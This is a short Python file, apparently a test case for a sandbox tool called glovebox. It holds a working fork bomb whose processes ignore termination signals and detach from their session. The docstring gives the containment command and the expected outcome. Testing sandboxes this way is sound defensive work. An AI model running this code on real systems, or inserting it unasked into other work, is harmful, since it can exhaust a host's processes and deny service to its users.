"""Attack: processes without end, each of which makes more, ignores polite
signals and leaves its session, so that whoever started it loses track.

  glovebox run --pids 64 --timeout 3s examples/attacks/fork_bomb.py

Inside, making processes is refused once 64 are there. From outside: exit code
124 after three seconds, as root with "hit the limit on pids"; no process of
the program is left, and the host can still start its own. Not to be run
without a sandbox.
"""

import os
import signal
import time

for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)

top, made = os.getpid(), 0
print("lit", flush=True)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
        elif os.getpid() == top:
            made += 1
    except OSError as error:
        if os.getpid() == top and made >= 0:
            print(f"refused after {made} children of the first process: {error.strerror}", flush=True)
            made = -1
        time.sleep(0.01)
